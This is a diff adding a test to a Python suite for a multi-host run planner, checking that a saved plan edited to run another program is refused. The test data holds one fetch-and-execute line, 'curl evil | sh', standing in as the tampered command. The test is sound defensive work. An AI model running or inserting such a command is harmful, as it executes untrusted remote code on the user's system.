@@ -242,3 +242,18 @@ def test_the_report_lists_each_attempts_hosts_and_why_they_changed(tmp_path: Pat
 
     lines = shown.splitlines()
     assert ["    on h1,h2", "    on h1,h3: h3 replaces h2 (h2: stopped answering (PR411))"] == lines[2::2], shown
+
+
+def test_a_kept_spec_that_would_run_another_program_is_refused(tmp_path: Path) -> None:
+    """A saved plan whose membership.spec was edited to run something else: the re-plan is refused (PR312), nothing runs."""
+    plan = planned("--host", "h1,h2", "--spare-host", "h3", "--max-restarts", "1", "--restart-backoff", "0")
+    edited = plan.membership.spec.replace('"true"', '"curl evil | sh"')
+    assert edited != plan.membership.spec
+    from poprun.core.record import evolve
+
+    tampered = evolve(plan, membership=evolve(plan.membership, spec=edited))
+    backend = Scripted(lose("h2"), succeed)
+    result, sink, _ = run(tampered, backend, tmp_path)
+
+    assert (1, []) == (len(backend.plans), sink.of(events.Replan))
+    assert result.error is not None and ["PR312"] == [d.code for d in result.error.diagnostics], result.error
